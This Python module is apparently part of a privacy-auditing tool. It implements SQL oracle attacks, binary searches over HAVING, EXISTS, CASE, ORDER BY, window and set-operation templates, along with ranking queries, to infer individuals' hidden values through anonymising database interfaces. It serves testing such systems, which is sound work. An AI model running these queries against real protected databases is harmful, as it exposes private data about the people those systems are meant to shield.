"""Yes-or-no questions: whether rows come, in which order, and what a binary search makes of it."""

from __future__ import annotations

from fractions import Fraction

from auditor.attacks.attack import Attack
from auditor.attacks.selection import literal
from auditor.attacks.sources import AIRCLOAK, OWN
from auditor.attacks.target import Claim, Target
from auditor.sql.schema import quoted

CONDITIONS = {
    "HAVING": "SELECT 1 FROM {t} WHERE {p} HAVING SUM({c}) > {{0}}",
    "HAVING on a group": "SELECT {k} FROM {t} WHERE {p} GROUP BY {k} HAVING MAX({c}) > {{0}}",
    "an outer condition": "SELECT 1 FROM (SELECT SUM({c}) AS s FROM {t} WHERE {p}) WHERE s > {{0}}",
    "EXISTS": "SELECT 1 FROM (SELECT 1 AS one) WHERE EXISTS "
    "(SELECT 1 FROM (SELECT SUM({c}) AS s FROM {t} WHERE {p}) WHERE s > {{0}})",
    "a CASE": "SELECT 1 FROM (SELECT CASE WHEN AVG({c}) > {{0}} THEN 1 END AS x FROM {t} WHERE {p}) "
    "WHERE x = 1",
    "a row condition": "SELECT 1 FROM {t} WHERE {p} AND {c} > {{0}}",
    "a correlated subquery": "SELECT 1 FROM {t} AS o WHERE {p} AND "
    "(SELECT MAX(i.{c}) FROM {t} AS i WHERE i.{k} = o.{k}) > {{0}}",
    "QUALIFY": "SELECT {k} FROM {t} WHERE {p} QUALIFY MAX({c}) OVER () > {{0}}",
    "a LIMIT": "SELECT 1 FROM {t} LIMIT "
    "(SELECT CASE WHEN SUM({c}) > {{0}} THEN 1 ELSE 0 END FROM {t} WHERE {p})",
}

ORDERS = {
    "ORDER BY and LIMIT": "SELECT k FROM (SELECT 1 AS k, SUM({c}) AS s FROM {t} WHERE {p} UNION ALL "
    "SELECT 2, {{0}} ORDER BY s DESC, k DESC LIMIT 1) WHERE k = 1",
    "a window's rank": "SELECT k FROM (SELECT k, RANK() OVER (ORDER BY s DESC, k DESC) AS r FROM "
    "(SELECT 1 AS k, SUM({c}) AS s FROM {t} WHERE {p} UNION ALL SELECT 2, {{0}})) WHERE k = 1 AND r = 1",
    "a set operation": "SELECT CASE WHEN SUM({c}) > {{0}} THEN 1 ELSE 0 END AS x FROM {t} WHERE {p} "
    "INTERSECT SELECT 1",
}


def searched(target: Target, aim: int, template: str) -> list[Claim]:
    """A value, halved in on by a statement that has rows exactly where the value is above {0}."""
    scene = target.scene
    low, high = 0, int((scene.maximum - scene.minimum) // scene.resolution)
    widest = high
    while low < high:
        middle = (low + high) // 2
        rows = target.ask(template.format(_written(scene.minimum + middle * scene.resolution)))
        if rows is None:
            break
        low, high = (middle + 1, high) if rows else (low, middle)
    if high - low == widest:
        return []
    lower, upper = (scene.minimum + end * scene.resolution for end in (low, high))
    return [target.claim(aim, lower, upper, "a binary search by whether rows come")]


def _written(value: Fraction) -> str:
    return str(value.numerator) if value.denominator == 1 else f"({value.numerator} / {value.denominator}.0)"


def _search_all(target: Target, templates: dict[str, str]) -> list[Claim]:
    found = []
    for aim in target.aims:
        words = {
            "t": target.table,
            "c": target.column,
            "p": target.only(aim).text,
            "k": quoted(target.names[0]),
        }
        for template in templates.values():
            found += searched(target, aim, template.format(**words))
    return found


def conditions(target: Target) -> list[Claim]:
    """Whether rows come."""
    return _search_all(target, CONDITIONS)


def orders(target: Target) -> list[Claim]:
    """Which of two comes first."""
    return _search_all(target, ORDERS)


def ranks(target: Target) -> list[Claim]:
    """Persons put in order by the value: one of them compared with each other, without ever seeing it."""
    name, table, column = quoted(target.names[0]), target.table, target.column
    for aim in target.aims:
        crowd = target.crowd(6, [aim])
        listed = ", ".join(literal(target.values[target.names[0]][i]) for i in [aim, *crowd])
        where = f"{name} IN ({listed})"
        for sql in (
            f"SELECT {name} FROM {table} WHERE {where} ORDER BY {column}",
            f"SELECT {name} FROM {table} WHERE {where} GROUP BY {name} ORDER BY SUM({column})",
            f"SELECT {name}, RANK() OVER (ORDER BY SUM({column})) FROM {table} WHERE {where} GROUP BY {name}",
            f"SELECT {name}, ROW_NUMBER() OVER (ORDER BY {column}) FROM {table} WHERE {where}",
            f"SELECT ARG_MAX({name}, {column}) FROM {table} WHERE {where}",
            f"SELECT {name} FROM {table} WHERE {where} QUALIFY {column} = MAX({column}) OVER ()",
        ):
            rows = target.ask(sql)
            if rows is not None:
                target.remarks.append("persons were put in order by their values")
    return []


ATTACKS = (
    Attack(
        "condition-oracle",
        "HAVING, EXISTS, CASE and others: rows come only where the value is above a bound.",
        f"{AIRCLOAK}, SQL backdoor attacks; {OWN}",
        conditions,
    ),
    Attack("order-oracle", "Sorting, ranks and set operations against a known number.", OWN, orders),
    Attack("ranking", "Persons sorted by their values, the values not shown.", OWN, ranks),
)
